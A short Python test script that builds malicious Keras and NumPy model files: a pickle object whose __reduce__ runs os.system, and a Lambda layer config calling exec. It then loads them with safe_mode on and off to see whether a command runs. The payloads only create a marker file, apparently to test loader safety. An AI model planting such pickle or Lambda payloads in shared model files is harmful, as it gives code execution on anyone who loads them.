# A saved model that runs a command when it is loaded: the notebook may hurt itself, and nobody else.
import io
import json
import pathlib
import pickle
import zipfile

import keras


class Payload:
    def __reduce__(self):
        import os
        return os.system, ("touch @MARKER@",)


config = {"module": "keras", "class_name": "Sequential", "registered_name": None, "config": {
    "name": "evil", "trainable": True, "layers": [
        {"module": "keras.layers", "class_name": "Lambda", "registered_name": None, "config": {
            "name": "run", "function": {"module": "builtins", "class_name": "function", "config": "exec",
                                        "registered_name": "function"},
            "arguments": {"command": "open('@MARKER@', 'w')"}}}]}}
with zipfile.ZipFile("evil.keras", "w") as archive:
    archive.writestr("config.json", json.dumps(config))
    archive.writestr("metadata.json", json.dumps({"keras_version": keras.__version__}))
    archive.writestr("model.weights.h5", pickle.dumps(Payload()))
pathlib.Path("evil.h5").write_bytes(pickle.dumps(Payload()))
pathlib.Path("weights.npy").write_bytes(pickle.dumps(Payload()))
for safe in (True, False):
    for name in ("evil.keras", "evil.h5"):
        try:
            keras.models.load_model(name, safe_mode=safe)
        except Exception as error:
            print(type(error).__name__)
try:
    import numpy
    numpy.load("weights.npy", allow_pickle=True)
except Exception as error:
    print(type(error).__name__)
